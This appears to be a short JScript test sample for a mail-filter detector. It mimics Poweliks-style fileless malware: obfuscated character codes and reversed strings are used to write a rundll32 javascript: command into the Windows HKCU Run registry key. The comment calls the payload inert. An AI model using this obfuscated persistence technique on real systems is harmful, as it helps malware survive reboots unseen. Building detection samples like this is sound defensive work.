// Test dropper written for fileless-milter (inert): Poweliks-style Run value with rundll32
// javascript:, decoded at run time from arithmetic char codes; the payload only writes text.
var c = [342,352,332,303,328,329,159,157,146,312,370,314,108,331,305,369,307,362,315,361,335,357,370,197,126,301,164,165,304,356,375,343,380,360,358,167,282,388,368,255,292,272,270,238,380,381,370,362,345,340,398,366,385,383,150,157,233,357,391,356,411,388,365,393,412,203,423,409,383,417,373,191,174,388,404,378,418,425,213,427,383,426,430,218,420,376,449,411,421,380,390,193,215,270,391,419,429,442,401,219,223];
var v = []; for (var i = 0; i < c.length; i++) v.push(String.fromCharCode((c[i] - i) / 3));
var o = ["llehS.tpircSW", "etirWgeR", "nuR\\noisreVtnerruC\\swodniW\\tfosorciM\\erawtfoS\\UCKH"];
function rv(s) { return s.split("").reverse().join(""); }
var w = WScript.CreateObject(rv(o[0]));
w[rv(o[1])](rv(o[2]) + "\\", v.join(""), "REG_SZ");
